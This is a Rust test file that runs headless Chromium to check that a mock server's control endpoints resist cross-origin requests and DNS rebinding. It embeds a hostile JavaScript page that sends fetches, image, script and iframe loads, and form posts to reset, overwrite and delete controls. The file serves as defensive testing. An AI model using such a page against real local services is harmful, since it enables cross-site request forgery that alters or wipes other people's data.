//! A page of another site, in a real browser, against the controls of a mock on the same machine.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::{Command, Stdio};
use std::sync::mpsc::{Receiver, Sender, channel};

use serde_json::{Value, json};

use crate::control::{ANNA, Mock};
use crate::support::needs;

/// What a hostile page can send: fetch in both modes with each method, an image, a script, a frame, and a form that is sent into a frame.
const PAGE: &str = r#"<!doctype html><title>another site</title><body><script>
const calls = [["GET", "requests"], ["GET", "clock"], ["GET", "openapi.json"], ["GET", "reset"], ["POST", "reset"],
  ["POST", "clock"], ["POST", "faults"], ["POST", "workspaces"], ["PUT", "snapshots/stolen"], ["DELETE", "requests"]];
async function attack(base) {
  const read = [];
  for (const mode of ["cors", "no-cors"]) for (const [method, name] of calls) for (const type of ["text/plain", "application/json"]) {
    const body = method === "POST" ? '{"advanceMs": 1000}' : undefined;
    try {
      const answer = await fetch(`${base}/_ctl/${name}`, { method, mode, body, headers: { "content-type": type } });
      const text = await answer.text();
      if (answer.type !== "opaque" || text) read.push(`${mode} ${method} ${name}: ${answer.status} ${text}`);
    } catch { /* the browser lets the page see nothing */ }
  }
  const loaded = (element) => new Promise((done) => { element.onload = element.onerror = done; document.body.append(element); });
  const element = (name, values) => Object.assign(document.createElement(name), values);
  await loaded(element("img", { src: `${base}/_ctl/reset` }));
  await loaded(element("script", { src: `${base}/_ctl/requests` }));
  const frame = element("iframe", { name: "target" + base.slice(-5), src: `${base}/_ctl/requests` });
  await loaded(frame);
  const form = element("form", { method: "post", enctype: "text/plain", action: `${base}/_ctl/reset`, target: frame.name });
  document.body.append(form);
  await new Promise((done) => { frame.onload = done; form.submit(); });
  return read;
}
(async () => {
  const [controls, open] = location.hash.slice(1).split(",");
  await attack(open);
  fetch("/done", { method: "POST", body: JSON.stringify(await attack(controls)) });
})();
</script>"#;

/// A site that serves the page and takes whatever is sent to it; gives its address, and method, path and body of each request.
fn site() -> (String, Receiver<(String, String)>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let (sender, receiver) = channel();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let sender = sender.clone();
            std::thread::spawn(move || while answer(&stream, &sender).is_some() {});
        }
    });
    (url, receiver)
}

/// Answers one request of a connection: with everything that a browser asks before it lets a page send.
fn answer(mut stream: &TcpStream, sender: &Sender<(String, String)>) -> Option<()> {
    let mut reader = BufReader::new(stream);
    let mut line = String::new();
    let (mut first, mut length) = (String::new(), 0);
    while reader.read_line(&mut line).ok()? > 2 {
        if first.is_empty() {
            first = line.split(' ').take(2).collect::<Vec<_>>().join(" ");
        }
        if let Some(value) = line.to_ascii_lowercase().strip_prefix("content-length:") {
            length = value.trim().parse().unwrap();
        }
        line.clear();
    }
    let mut body = vec![0; length];
    reader.read_exact(&mut body).ok()?;
    sender.send((first.clone(), String::from_utf8_lossy(&body).into_owned())).ok()?;
    let text = if first == "GET /" { PAGE } else { "{}" };
    write!(
        stream,
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nAccess-Control-Allow-Origin: *\r\nAccess-Control-Allow-Methods: *\r\n\
         Access-Control-Allow-Headers: *\r\nContent-Length: {}\r\n\r\n{text}",
        text.len()
    )
    .ok()
}

fn chromium(profile: &std::path::Path) -> Command {
    let mut command = Command::new("chromium");
    command.args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync"]);
    command.args(["--disable-background-networking", "--disable-component-update"]);
    command.arg(format!("--user-data-dir={}", profile.display())).stdin(Stdio::null()).stderr(Stdio::null());
    command
}

/// What of a mock a page could have changed.
fn state_of(mock: &Mock, token: &str) -> Vec<Value> {
    let controls = ["clock", "faults", "snapshots", "workspaces"]
        .map(|name| mock.done("GET", &format!("/_ctl/{name}"), json!(null)));
    let title = mock.server.get(ANNA, token).body["title"].clone();
    [&controls[..], &[title]].concat()
}

#[test]
fn a_page_of_another_site_reaches_no_control() {
    if !needs("chromium") {
        return;
    }
    let mock = Mock::start(&[]);
    mock.done("POST", "/_ctl/clock", json!({ "freeze": true }));
    let token = mock.token("MANAGER");
    assert_eq!(mock.title(&token, "Changed").status, 200);
    let before = state_of(&mock, &token);

    let (hostile, said) = site();
    let (open, arrived) = site();
    let profile = tempfile::tempdir().unwrap();
    let page = format!("{hostile}/#{},{open}", mock.controls);
    let mut browser =
        chromium(profile.path()).args(["--remote-debugging-port=0", &page]).stdout(Stdio::null()).spawn().unwrap();
    let wait = std::time::Duration::from_secs(60);
    let read = std::iter::from_fn(|| said.recv_timeout(wait).ok()).find(|(first, _)| first == "POST /done");
    browser.kill().unwrap();
    browser.wait().unwrap();
    let (_, read) = read.expect("the page came to its end");
    assert_eq!(read, "[]", "what the page could read");
    assert_eq!(state_of(&mock, &token), before);

    // Where nothing stops it, the same page does all of it.
    let arrived: Vec<String> = arrived.try_iter().map(|(first, _)| first).collect();
    for wanted in ["GET /_ctl/reset", "POST /_ctl/reset", "PUT /_ctl/snapshots/stolen", "DELETE /_ctl/requests"] {
        assert!(arrived.iter().any(|first| first == wanted), "{wanted} was not sent: {arrived:?}");
    }
}

#[test]
fn a_name_that_leads_to_this_machine_is_not_answered() {
    if !needs("chromium") {
        return;
    }
    let mock = Mock::start(&[]);
    let port = mock.controls.rsplit(':').next().unwrap();
    let see = |name: &str| {
        let profile = tempfile::tempdir().unwrap();
        let url = format!("http://{name}:{port}/_ctl/clock");
        let rule = "--host-resolver-rules=MAP rebound.example.com 127.0.0.1";
        let output = chromium(profile.path()).args([rule, "--dump-dom", &url]).output().unwrap();
        String::from_utf8(output.stdout).unwrap()
    };
    let refused = see("rebound.example.com");
    assert!(refused.contains("by no other name") && !refused.contains("running"), "{refused}");
    let own = see("127.0.0.1");
    assert!(own.contains("running"), "{own}");
}
